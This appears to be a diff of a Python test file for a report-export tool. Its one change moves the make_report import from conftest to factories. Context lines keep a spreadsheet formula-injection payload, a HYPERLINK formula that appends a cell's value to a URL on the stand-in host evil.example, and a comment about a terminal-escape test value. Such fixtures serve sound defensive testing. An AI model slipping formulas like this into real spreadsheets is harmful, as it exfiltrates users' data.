@@ -6,7 +6,7 @@ from pathlib import Path
 
 from bilagor.extractor.record import Amount, Section
 from bilagor.index.archive import Archive
-from conftest import make_report
+from factories import make_report
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
 # A terminal escape that would clear the screen and set the window title, plus a bell and a C1 CSI.
